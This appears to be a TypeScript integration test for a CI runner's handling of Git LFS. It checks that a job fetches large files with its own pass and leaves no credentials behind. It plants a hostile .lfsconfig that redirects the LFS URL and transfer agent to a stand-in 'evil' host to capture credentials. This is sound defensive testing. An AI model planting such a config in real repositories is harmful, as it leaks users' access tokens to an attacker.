import { execFile } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { passesIn } from '../support/pass-forms.ts';
import type { TestServer } from '../support/server.ts';
import { type ShellRunner, startShellRunner } from './support/shell-runner.ts';

const run = promisify(execFile);
const helper = '!f() { test "$1" = get && printf "username=anyone\\npassword=%s\\n" "$TEST_TOKEN"; }; f';
const ciFile = `
large:
  script: ["sha256sum big.bin", "git config --get-regexp lfs || true", "cat .lfsconfig"]
pointer:
  variables: { GIT_LFS_SKIP_SMUDGE: "1" }
  script: ["cat big.bin"]
`;

describe('the runner and large files', () => {
  let runner: ShellRunner;
  let server: TestServer;
  let dir: string;
  let alice: ShellRunner['alice'];
  let app: number;
  const big = randomBytes(300_000);
  const oid = createHash('sha256').update(big).digest('hex');

  beforeAll(async () => {
    runner = await startShellRunner();
    ({ server, alice, app, dir } = runner);
  });
  afterAll(() => runner.close());

  async function trace(name: string): Promise<string> {
    for (;;) {
      const { list } = await server.call('GET', `/api/v4/projects/${app}/jobs`, { token: alice.token });
      const job = list.find((one) => one['name'] === name && ['success', 'failed'].includes(String(one['status'])));
      if (job !== undefined)
        return (await server.call('GET', `/api/v4/projects/${app}/jobs/${String(job['id'])}/trace`, { token: alice.token })).text;
      await new Promise((resolve) => setTimeout(resolve, 30));
    }
  }

  test('R8 A19 A53 a job finds the file itself, fetched with the fetch pass; .lfsconfig sends nobody elsewhere; no pass is left', async () => {
    const work = join(dir, 'work');
    const env = { PATH: process.env['PATH'] ?? '', HOME: dir, LC_ALL: 'C', GIT_CONFIG_NOSYSTEM: '1', TEST_TOKEN: alice.token };
    const settings = [
      '-c',
      'credential.helper=',
      '-c',
      `credential.helper=${helper}`,
      '-c',
      'user.name=alice',
      '-c',
      'user.email=alice@example.com',
    ];
    const git = (...args: string[]) => run('git', [...settings, ...args], { env, cwd: args[0] === 'init' ? dir : work });
    await git('init', '-q', '-b', 'main', work);
    await git('lfs', 'install', '--local');
    await git('lfs', 'track', '*.bin');
    await writeFile(join(work, 'big.bin'), big);
    await writeFile(join(work, '.gitlab-ci.yml'), ciFile);
    // Whoever wrote this wants the credential for a server of their own.
    await writeFile(join(work, '.lfsconfig'), '[lfs]\n\turl = http://127.0.0.1:9/evil\n\tcustomtransfer = evil\n');
    await git('add', '.');
    await git('commit', '-q', '-m', 'large');
    await git('-c', `lfs.url=${server.url}/team/app.git/info/lfs`, 'push', `${server.url}/team/app.git`, 'main');
    const large = await trace('large');
    expect(large).toContain(`${oid}  big.bin`);
    expect(large).toContain('Fetching LFS objects');
    expect(large).not.toContain('127.0.0.1:9/evil/');
    const pointer = await trace('pointer');
    expect(pointer).toContain(`oid sha256:${oid}`);
    await runner.handle.drain();
    for (const entry of await readdir(join(dir, 'builds'), { recursive: true, withFileTypes: true }))
      if (entry.isFile()) expect(passesIn(await readFile(join(entry.parentPath, entry.name), 'latin1')), entry.name).toEqual([]);
  });
});
